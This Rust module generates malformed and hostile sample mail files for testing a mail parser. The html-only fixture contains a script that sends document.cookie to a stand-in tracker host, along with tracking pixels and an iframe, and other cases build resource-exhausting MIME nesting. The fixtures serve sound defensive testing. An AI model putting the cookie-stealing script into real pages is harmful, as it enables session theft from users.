//! The hostile cases of the sample's `broken/` folder, one small file each:
//! truncated and lying mboxes, mboxcl2 with an unescaped `From ` line, junk
//! before the first separator, CRLF mbox, unknown charsets, raw 8-bit
//! headers, missing/absurd/unparseable dates, 150-deep and 2,000-part MIME,
//! a missing Message-ID, hostile HTML, and files that are not mail at all.

use std::fs;
use std::io;
use std::path::Path;

use super::attach;
use super::cast::Group;
use super::date;
use super::encode;
use super::engine::{Engine, EngineConfig, Generated, SizeMode};
use super::mbox::{self, MboxWriter};
use super::rng::Rng;
use super::{SampleFile, SampleKind};

fn fodder_config(n: usize, attach_prob: f64) -> EngineConfig {
    EngineConfig {
        total: n,
        start: date::START_2015 + 250 * 86_400,
        end: date::START_2015 + 400 * 86_400,
        pool: 3,
        short_lengths: &[3, 3, 2],
        long_prob: 0.0,
        long_range: (1, 1),
        attach_prob,
        crlf_prob: 0.0,
        owner: None,
        require_org: None,
        takeout: false,
        size: SizeMode::Natural,
        html_only_prob: 0.0,
        from_line_prob: 0.0,
        forward_prob: 0.0,
        quote_cap: 800,
        tight_quote_prob: 0.0,
        paragraphs: (1, 2),
        group_weights: &[
            (Group::Committee, 50),
            (Group::Campaign, 30),
            (Group::Consultant, 20),
        ],
        foreign_weight: 3,
    }
}

fn fodder(seed: u64, label: &str, n: usize, attach_prob: f64) -> Vec<Generated> {
    let mut e = Engine::new(fodder_config(n, attach_prob), Rng::derive(seed, label));
    (0..n).map(|_| e.next_message()).collect()
}

fn header_end(msg: &[u8]) -> usize {
    memchr::memmem::find(msg, b"\n\n")
        .map(|i| i + 1)
        .unwrap_or(msg.len())
}

/// Insert `Content-Length: body + delta` as the last header.
fn with_content_length(msg: &[u8], delta: i64) -> Vec<u8> {
    let he = header_end(msg);
    let body_len = msg.len().saturating_sub(he + 1) as i64;
    let mut out = Vec::with_capacity(msg.len() + 32);
    out.extend_from_slice(&msg[..he]);
    out.extend_from_slice(format!("Content-Length: {}\n", body_len + delta).as_bytes());
    out.extend_from_slice(&msg[he..]);
    out
}

/// A hand-written single-part message.
fn plain_msg(headers: &[(&str, String)], body: &str) -> Vec<u8> {
    let mut s = String::new();
    for (n, v) in headers {
        s.push_str(n);
        s.push_str(": ");
        s.push_str(v);
        s.push('\n');
    }
    s.push('\n');
    s.push_str(body);
    if !s.ends_with('\n') {
        s.push('\n');
    }
    s.into_bytes()
}

fn t(y: i64, m: u32, d: u32, h: i64) -> i64 {
    date::days_from_civil(y, m, d) * 86_400 + h * 3600
}

fn date_hdr(ts: i64) -> String {
    date::rfc5322(&date::local(ts, date::Zone::UsEastern, false))
}

fn std_headers(
    from: &str,
    to: &str,
    subject: &str,
    ts: i64,
    id: &str,
) -> Vec<(&'static str, String)> {
    vec![
        ("Return-Path", format!("<{}>", addr_of(from))),
        ("From", from.to_string()),
        ("To", to.to_string()),
        ("Subject", subject.to_string()),
        ("Date", date_hdr(ts)),
        ("Message-ID", format!("<{id}@mail.ncpc.example.org>")),
        ("MIME-Version", "1.0".to_string()),
    ]
}

fn addr_of(mailbox: &str) -> &str {
    match (mailbox.rfind('<'), mailbox.rfind('>')) {
        (Some(a), Some(b)) if a < b => &mailbox[a + 1..b],
        _ => mailbox,
    }
}

const MARCUS: &str = "Marcus Ellery <ellerym@ncpc.example.org>";
const BETH: &str = "\"Kowalczyk, Beth\" <kowalczykb@ncpc.example.org>";
const PRIYA: &str = "Priya Raman <ramanp@ncpc.example.org>";

fn file(
    path: &str,
    kind: SampleKind,
    messages: usize,
    defects: &[(&str, &'static str)],
    note: &'static str,
) -> SampleFile {
    SampleFile {
        path: path.into(),
        kind,
        messages,
        expected_defects: defects.iter().map(|&(i, k)| (i.to_string(), k)).collect(),
        note,
    }
}

fn mbox_bytes(msgs: &[(String, Vec<u8>)], escape: bool, eol: &[u8]) -> io::Result<Vec<u8>> {
    if escape {
        let mut w = MboxWriter::new(Vec::new());
        for (fl, m) in msgs {
            w.write_message(fl, m, eol)?;
        }
        return Ok(w.into_inner());
    }
    let mut out = Vec::new();
    for (fl, m) in msgs {
        out.extend_from_slice(fl.as_bytes());
        out.extend_from_slice(eol);
        out.extend_from_slice(m);
        out.extend_from_slice(eol);
    }
    Ok(out)
}

fn from_lines(gs: Vec<Generated>) -> Vec<(String, Vec<u8>)> {
    gs.into_iter()
        .map(|g| (mbox::from_line_for(&g, false), g.bytes))
        .collect()
}

/// Where the cases write and what they wrote.
struct Out<'a> {
    dir: &'a Path,
    seed: u64,
    files: Vec<SampleFile>,
}

impl Out<'_> {
    /// Writes `bytes` as `broken/name`.
    fn put(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
        fs::write(self.dir.join(name), bytes)
    }
}

/// One case: writes its file(s) and adds them to [`Out::files`].
type Case = fn(&mut Out) -> io::Result<()>;

/// The cases, in the order they are written (file names for reading).
const CASES: &[(&str, Case)] = &[
    ("truncated.mbox", truncated),
    ("bad-content-length.mbox", bad_content_length),
    ("mboxcl2.mbox", mboxcl2),
    ("junk-before-first-from.mbox", junk_before_first_from),
    ("unescaped-from.mbox", unescaped_from),
    ("crlf.mbox", crlf),
    ("bad-charset.eml", bad_charset),
    ("raw-8bit-headers-cp1252.eml", raw_8bit_cp1252),
    ("raw-8bit-headers-utf8.eml", raw_8bit_utf8),
    ("no-date.eml", no_date),
    ("absurd-date.eml", absurd_date),
    ("bad-date.eml", bad_date),
    ("deep-nesting.eml", deep_nesting),
    ("many-parts.eml", many_parts),
    ("no-message-id.eml", no_message_id),
    ("html-only.eml", html_only),
    ("empty.eml", empty),
    ("random.bin, photo.png", random_and_png),
];

/// Writes `out/broken/` and describes what it holds.
pub fn write(out: &Path, seed: u64) -> io::Result<Vec<SampleFile>> {
    let dir = out.join("broken");
    fs::create_dir_all(&dir)?;
    let mut o = Out {
        dir: &dir,
        seed,
        files: Vec::new(),
    };
    for (_, case) in CASES {
        case(&mut o)?;
    }
    Ok(o.files)
}

/// `truncated.mbox`: the last message is cut inside a base64 attachment.
fn truncated(o: &mut Out) -> io::Result<()> {
    let mut msgs = from_lines(fodder(o.seed, "truncated", 3, 0.0));
    let mut e = Engine::new(
        fodder_config(40, 1.0),
        Rng::derive(o.seed, "truncated-attach"),
    );
    let mut last = e.next_message();
    for _ in 0..40 {
        if memchr::memmem::rfind(&last.bytes, b"Content-Transfer-Encoding: base64\n").is_some()
            && last.attachments > 0
        {
            break;
        }
        last = e.next_message();
    }
    let fl = mbox::from_line_for(&last, false);
    let b = &last.bytes;
    let cte =
        memchr::memmem::rfind(b, b"Content-Transfer-Encoding: base64\n").unwrap_or(b.len() / 2);
    let data_start = memchr::memmem::find(&b[cte..], b"\n\n")
        .map(|i| cte + i + 2)
        .unwrap_or(cte);
    let remaining = b.len().saturating_sub(data_start);
    let mut cut = data_start + (remaining / 2).clamp(1, 400);
    while cut > data_start && b[cut - 1] == b'\n' {
        cut -= 1;
    }
    msgs.push((fl, Vec::new()));
    let mut bytes = mbox_bytes(&msgs[..3], true, b"\n")?;
    bytes.extend_from_slice(msgs[3].0.as_bytes());
    bytes.push(b'\n');
    bytes.extend_from_slice(&b[..cut]);
    o.put("truncated.mbox", &bytes)?;
    o.files.push(file(
        "broken/truncated.mbox",
        SampleKind::Mbox,
        4,
        &[("3", "truncated")],
        "mboxrd whose 4th (last) message is cut in the middle of a base64 attachment, no final newline",
    ));
    Ok(())
}

/// `bad-content-length.mbox`: mboxcl; the first Content-Length is too large.
fn bad_content_length(o: &mut Out) -> io::Result<()> {
    let gs = fodder(o.seed, "bad-cl", 3, 0.0);
    let mut msgs = Vec::new();
    for (i, g) in gs.into_iter().enumerate() {
        let delta = if i == 0 { 350 } else { 0 };
        msgs.push((
            mbox::from_line_for(&g, false),
            with_content_length(&g.bytes, delta),
        ));
    }
    o.put("bad-content-length.mbox", &mbox_bytes(&msgs, true, b"\n")?)?;
    o.files.push(file(
        "broken/bad-content-length.mbox",
        SampleKind::Mbox,
        3,
        &[("0", "bad_content_length")],
        "mboxcl: the first message's Content-Length is 350 bytes too large (points into the 2nd message); \
         the 2nd and 3rd messages (correct Content-Length) must still be found",
    ));
    Ok(())
}

/// `mboxcl2.mbox`: correct Content-Length, an unescaped `From_` lookalike in a body.
fn mboxcl2(o: &mut Out) -> io::Result<()> {
    let gs = fodder(o.seed, "mboxcl2", 2, 0.0);
    let ts = t(2015, 11, 3, 15);
    let mut h = std_headers(
        MARCUS,
        BETH,
        "Fwd: old archive excerpt",
        ts,
        "mboxcl2.4471@ncpc",
    );
    h.push(("Content-Type", "text/plain; charset=\"us-ascii\"".into()));
    h.push(("Content-Transfer-Encoding", "7bit".into()));
    let body = "Beth,\n\nThis is what the old archive export looked like, pasted as is:\n\n\
                From dwhitaker@ncpc.example.org Mon Oct 12 14:02:11 2015\n\
                Subject: budget\n\n\
                From here on we talk by phone.\n\n\
                Marcus\n";
    let special = plain_msg(&h, body);
    let mut msgs = Vec::new();
    let mut it = gs.into_iter();
    if let Some(g) = it.next() {
        msgs.push((
            mbox::from_line_for(&g, false),
            with_content_length(&g.bytes, 0),
        ));
    }
    msgs.push((
        mbox::classic_from_line("ellerym@ncpc.example.org", ts),
        with_content_length(&special, 0),
    ));
    if let Some(g) = it.next() {
        msgs.push((
            mbox::from_line_for(&g, false),
            with_content_length(&g.bytes, 0),
        ));
    }
    o.put("mboxcl2.mbox", &mbox_bytes(&msgs, false, b"\n")?)?;
    o.files.push(file(
        "broken/mboxcl2.mbox",
        SampleKind::Mbox,
        3,
        &[],
        "correct mboxcl2 (Content-Length, no From quoting): the 2nd message's body holds an unescaped line \
         'From dwhitaker@ncpc.example.org Mon Oct 12 14:02:11 2015' after a blank line; only Content-Length \
         tells it is not a separator. 3 messages",
    ));
    Ok(())
}

/// `junk-before-first-from.mbox`: exporter junk before the first separator.
fn junk_before_first_from(o: &mut Out) -> io::Result<()> {
    let msgs = from_lines(fodder(o.seed, "junk", 2, 0.0));
    let mut bytes = b"Mailbox export - MailArchiver 2.1 (trial version)\nExported folder: Inbox/Finance\nItems: 2\n\n".to_vec();
    bytes.extend_from_slice(&mbox_bytes(&msgs, true, b"\n")?);
    o.put("junk-before-first-from.mbox", &bytes)?;
    o.files.push(file(
        "broken/junk-before-first-from.mbox",
        SampleKind::Mbox,
        2,
        &[],
        "four lines of exporter junk before the first From_ line, then 2 good messages",
    ));
    Ok(())
}

/// `unescaped-from.mbox`: mboxo body line "From here on we talk by phone."
fn unescaped_from(o: &mut Out) -> io::Result<()> {
    let gs = fodder(o.seed, "unescaped", 1, 0.0);
    let ts = t(2016, 4, 19, 14);
    let mut h = std_headers(
        PRIYA,
        MARCUS,
        "RE: research call",
        ts,
        "unescaped.9912@ncpc",
    );
    h.push(("Content-Type", "text/plain; charset=\"us-ascii\"".into()));
    let body = "Marcus,\n\nThe line is not secure.\n\nFrom here on we talk by phone.\n\nPriya\n";
    let mut msgs = vec![(
        mbox::classic_from_line("ramanp@ncpc.example.org", ts),
        plain_msg(&h, body),
    )];
    msgs.extend(from_lines(gs));
    o.put("unescaped-from.mbox", &mbox_bytes(&msgs, false, b"\n")?)?;
    o.files.push(file(
        "broken/unescaped-from.mbox",
        SampleKind::Mbox,
        2,
        &[],
        "mboxo without quoting: the 1st body has the line 'From here on we talk by phone.' after a blank line; \
         it is not a From_ line (no address and date) and must NOT split the message",
    ));
    Ok(())
}

/// `crlf.mbox`: CRLF line ends throughout.
fn crlf(o: &mut Out) -> io::Result<()> {
    let gs = fodder(o.seed, "crlf", 3, 0.3);
    let msgs: Vec<(String, Vec<u8>)> = gs
        .into_iter()
        .map(|g| (mbox::from_line_for(&g, false), encode::to_crlf(&g.bytes)))
        .collect();
    o.put("crlf.mbox", &mbox_bytes(&msgs, true, b"\r\n")?)?;
    o.files.push(file(
        "broken/crlf.mbox",
        SampleKind::Mbox,
        3,
        &[],
        "mbox with CRLF line ends throughout, 3 messages",
    ));
    Ok(())
}

/// `bad-charset.eml`: an unknown charset over 8-bit bytes.
fn bad_charset(o: &mut Out) -> io::Result<()> {
    let ts = t(2015, 9, 8, 16);
    let mut h = std_headers(
        MARCUS,
        PRIYA,
        "Numbers for the finance call",
        ts,
        "badcharset.3301@ncpc",
    );
    h.push((
        "Content-Type",
        "text/plain; charset=\"x-unknown-foo\"".into(),
    ));
    h.push(("Content-Transfer-Encoding", "8bit".into()));
    let mut bytes = plain_msg(&h, "");
    bytes.extend_from_slice(b"Priya,\n\nThe caf\xe9 numbers are in: \x93$2,700\x94 per head, 40 RSVPs.\nS\xf8ren has the sheet.\n\nMarcus\n");
    o.put("bad-charset.eml", &bytes)?;
    o.files.push(file(
        "broken/bad-charset.eml",
        SampleKind::Eml,
        1,
        &[("0", "unknown_charset")],
        "charset=\"x-unknown-foo\" with 8-bit (windows-1252) body bytes",
    ));
    Ok(())
}

/// `raw-8bit-headers-cp1252.eml`: raw windows-1252 bytes in From, To and Subject.
fn raw_8bit_cp1252(o: &mut Out) -> io::Result<()> {
    let ts = t(2016, 2, 11, 10);
    let mut bytes = Vec::new();
    bytes.extend_from_slice(b"Return-Path: <ortegar@ncpc.example.org>\n");
    bytes.extend_from_slice(b"From: Ram\xf3n Ortega <ortegar@ncpc.example.org>\n");
    bytes.extend_from_slice(b"To: Luis Garc\xeda <garcial@ncpc.example.org>\n");
    bytes.extend_from_slice(b"Subject: Reuni\xf3n del lunes \x96 caf\xe9 con los voluntarios\n");
    bytes.extend_from_slice(format!("Date: {}\n", date_hdr(ts)).as_bytes());
    bytes.extend_from_slice(
        b"Message-ID: <raw8bit.cp1252.5521@mail.ncpc.example.org>\nMIME-Version: 1.0\n",
    );
    bytes.extend_from_slice(
        b"Content-Type: text/plain; charset=\"windows-1252\"\nContent-Transfer-Encoding: 8bit\n\n",
    );
    bytes.extend_from_slice(b"Luis,\n\nLa reuni\xf3n con los voluntarios de Phoenix es el lunes a las 10.\n\nRam\xf3n\n");
    o.put("raw-8bit-headers-cp1252.eml", &bytes)?;
    o.files.push(file(
        "broken/raw-8bit-headers-cp1252.eml",
        SampleKind::Eml,
        1,
        &[("0", "raw_8bit_header")],
        "raw windows-1252 bytes (not UTF-8) in From, To and Subject",
    ));
    Ok(())
}

/// `raw-8bit-headers-utf8.eml`: raw UTF-8 (RFC 6532 style) in From, To and Subject.
fn raw_8bit_utf8(o: &mut Out) -> io::Result<()> {
    let ts = t(2016, 2, 12, 11);
    let mut h = std_headers(
        "Zoë Castellanos <castellanosz@ncpc.example.org>",
        "Søren Lindqvist <lindqvists@ncpc.example.org>",
        "Café meeting — budget for the García event",
        ts,
        "raw8bit.utf8.5522@ncpc",
    );
    h.push(("Content-Type", "text/plain; charset=\"utf-8\"".into()));
    h.push(("Content-Transfer-Encoding", "8bit".into()));
    let body = "Søren,\n\nCan we meet at the café at 3? Zoë\n";
    o.put("raw-8bit-headers-utf8.eml", &plain_msg(&h, body))?;
    o.files.push(file(
        "broken/raw-8bit-headers-utf8.eml",
        SampleKind::Eml,
        1,
        &[],
        "raw UTF-8 (RFC 6532 style) in From, To and Subject: decodes cleanly, no defect",
    ));
    Ok(())
}

/// `no-date.eml`: no Date header.
fn no_date(o: &mut Out) -> io::Result<()> {
    let ts = t(2015, 6, 2, 13);
    let mut h = std_headers(BETH, MARCUS, "no date on this one", ts, "nodate.7001@ncpc");
    h.retain(|(n, _)| *n != "Date");
    h.push(("Content-Type", "text/plain; charset=\"us-ascii\"".into()));
    o.put(
        "no-date.eml",
        &plain_msg(
            &h,
            "Marcus,\n\nThe clip is attached in the other mail.\n\nBeth\n",
        ),
    )?;
    o.files.push(file(
        "broken/no-date.eml",
        SampleKind::Eml,
        1,
        &[("0", "missing_date")],
        "no Date header",
    ));
    Ok(())
}

/// `absurd-date.eml`: a well-formed Date in March 1901.
fn absurd_date(o: &mut Out) -> io::Result<()> {
    let ts = t(2015, 6, 2, 13);
    let old = date::days_from_civil(1901, 3, 12) * 86_400 + 15 * 3600;
    let mut h = std_headers(BETH, MARCUS, "Re: archive", ts, "absurd.7002@ncpc");
    for (n, v) in &mut h {
        if *n == "Date" {
            *v = date::rfc5322(&date::local(old, date::Zone::UsEastern, false));
        }
    }
    h.push(("Content-Type", "text/plain; charset=\"us-ascii\"".into()));
    o.put(
        "absurd-date.eml",
        &plain_msg(&h, "This one claims to be from 1901.\n"),
    )?;
    o.files.push(file(
        "broken/absurd-date.eml",
        SampleKind::Eml,
        1,
        &[("0", "implausible_date")],
        "a well-formed Date in March 1901",
    ));
    Ok(())
}

/// `bad-date.eml`: `Date: yesterday-ish`.
fn bad_date(o: &mut Out) -> io::Result<()> {
    let ts = t(2015, 6, 2, 13);
    let mut h = std_headers(BETH, MARCUS, "Re: when?", ts, "baddate.7003@ncpc");
    for (n, v) in &mut h {
        if *n == "Date" {
            *v = "yesterday-ish".into();
        }
    }
    h.push(("Content-Type", "text/plain; charset=\"us-ascii\"".into()));
    o.put(
        "bad-date.eml",
        &plain_msg(&h, "Sent it yesterday, or so.\n"),
    )?;
    o.files.push(file(
        "broken/bad-date.eml",
        SampleKind::Eml,
        1,
        &[("0", "bad_date")],
        "Date: yesterday-ish",
    ));
    Ok(())
}

/// `deep-nesting.eml`: 150 nested multiparts.
fn deep_nesting(o: &mut Out) -> io::Result<()> {
    let ts = t(2016, 5, 5, 9);
    let mut h = std_headers(MARCUS, BETH, "nested", ts, "deep.8101@ncpc");
    h.push((
        "Content-Type",
        "multipart/mixed; boundary=\"=_nest_1_=\"".into(),
    ));
    let mut body = String::from("This is a multi-part message in MIME format.\n");
    const DEPTH: usize = 150;
    for level in 1..DEPTH {
        body.push_str(&format!(
            "--=_nest_{level}_=\nContent-Type: multipart/mixed; boundary=\"=_nest_{}_=\"\n\n",
            level + 1
        ));
    }
    body.push_str(&format!(
        "--=_nest_{DEPTH}_=\nContent-Type: text/plain; charset=\"us-ascii\"\n\nHello from the bottom of 150 multiparts.\n"
    ));
    for level in (1..=DEPTH).rev() {
        body.push_str(&format!("--=_nest_{level}_=--\n"));
    }
    o.put("deep-nesting.eml", &plain_msg(&h, &body))?;
    o.files.push(file(
        "broken/deep-nesting.eml",
        SampleKind::Eml,
        1,
        &[("0", "too_deep")],
        "150 nested multipart/mixed entities around one text part",
    ));
    Ok(())
}

/// `many-parts.eml`: 2,000 tiny parts.
fn many_parts(o: &mut Out) -> io::Result<()> {
    let ts = t(2016, 5, 6, 9);
    let mut h = std_headers(
        PRIYA,
        BETH,
        "call sheet, one part per name",
        ts,
        "many.8102@ncpc",
    );
    h.push(("Content-Type", "multipart/mixed; boundary=\"p\"".into()));
    let mut body = String::with_capacity(80_000);
    for i in 1..=2000 {
        body.push_str(&format!("--p\nContent-Type: text/plain\n\npart {i}\n"));
    }
    body.push_str("--p--\n");
    o.put("many-parts.eml", &plain_msg(&h, &body))?;
    o.files.push(file(
        "broken/many-parts.eml",
        SampleKind::Eml,
        1,
        &[],
        "one multipart/mixed with 2,000 tiny text/plain parts (too_many_parts only if the part limit is below 2,001)",
    ));
    Ok(())
}

/// `no-message-id.eml`: no Message-ID header.
fn no_message_id(o: &mut Out) -> io::Result<()> {
    let ts = t(2015, 12, 1, 12);
    let mut h = std_headers(MARCUS, BETH, "no id", ts, "x");
    h.retain(|(n, _)| *n != "Message-ID");
    h.push(("Content-Type", "text/plain; charset=\"us-ascii\"".into()));
    o.put(
        "no-message-id.eml",
        &plain_msg(
            &h,
            "Beth,\n\nThis message has no Message-ID header.\n\nMarcus\n",
        ),
    )?;
    o.files.push(file(
        "broken/no-message-id.eml",
        SampleKind::Eml,
        1,
        &[("0", "missing_message_id")],
        "no Message-ID header",
    ));
    Ok(())
}

/// `html-only.eml`: script, style, remote images.
fn html_only(o: &mut Out) -> io::Result<()> {
    let ts = t(2016, 7, 25, 8);
    let mut h = std_headers(
        "Hartwell for America <news@hartwell2016.example.com>",
        BETH,
        "Convention week: your credentials",
        ts,
        "htmlonly.8801@ncpc",
    );
    h.push(("Content-Type", "text/html; charset=\"utf-8\"".into()));
    h.push(("Content-Transfer-Encoding", "quoted-printable".into()));
    let html = "<!DOCTYPE html>\n<html><head><title>Convention week</title>\n\
<style>body { font-family: Georgia, serif; } .hidden { display:none }</style>\n\
<script>document.write('<img src=\"http://tracker.example.net/js.gif?u=' + document.cookie + '\">');</script>\n\
</head><body>\n<h1>Convention week</h1>\n\
<p>Beth, your credentials are ready for pickup at the Philadelphia hotel desk from Sunday noon.</p>\n\
<p class=\"hidden\">preheader text nobody sees</p>\n\
<p>Bring a photo ID. <a href=\"http://hartwell2016.example.com/creds?id=4471\">Check your status</a>.</p>\n\
<img src=\"https://cdn.example.com/banner-hartwell.png\" alt=\"Hartwell for America\">\n\
<img src=\"http://tracker.example.net/p.gif\" width=\"1\" height=\"1\">\n\
<iframe src=\"http://tracker.example.net/frame.html\"></iframe>\n\
<p onclick=\"alert('hi')\">Paid for by Hartwell for America (fictional).</p>\n\
</body></html>\n";
    let mut bytes = plain_msg(&h, "");
    bytes.extend_from_slice(&encode::quoted_printable(html.as_bytes()));
    o.put("html-only.eml", &bytes)?;
    o.files.push(file(
        "broken/html-only.eml",
        SampleKind::Eml,
        1,
        &[],
        "HTML-only mail with <script>, <style>, an iframe and remote images (tracker.example.net): \
         must be rendered as text without loading anything; no defect",
    ));
    Ok(())
}

/// `empty.eml`: 0 bytes, not mail.
fn empty(o: &mut Out) -> io::Result<()> {
    o.put("empty.eml", b"")?;
    o.files.push(file(
        "broken/empty.eml",
        SampleKind::NotMail,
        0,
        &[],
        "0 bytes: not mail",
    ));
    Ok(())
}

/// `random.bin` and `photo.png` (from the same PRNG, in that order): not mail.
fn random_and_png(o: &mut Out) -> io::Result<()> {
    let mut r = Rng::derive(o.seed, "random.bin");
    let mut bytes = r.bytes(4096);
    // Make sure it cannot pass for text or a header block.
    bytes[0] = 0x00;
    bytes[1] = 0xFF;
    o.put("random.bin", &bytes)?;
    o.files.push(file(
        "broken/random.bin",
        SampleKind::NotMail,
        0,
        &[],
        "4 KiB of random bytes: not mail",
    ));
    let png = attach::png(&mut r, 64, 48, false);
    o.put("photo.png", &png)?;
    o.files.push(file(
        "broken/photo.png",
        SampleKind::NotMail,
        0,
        &[],
        "a valid PNG image: not mail",
    ));
    Ok(())
}
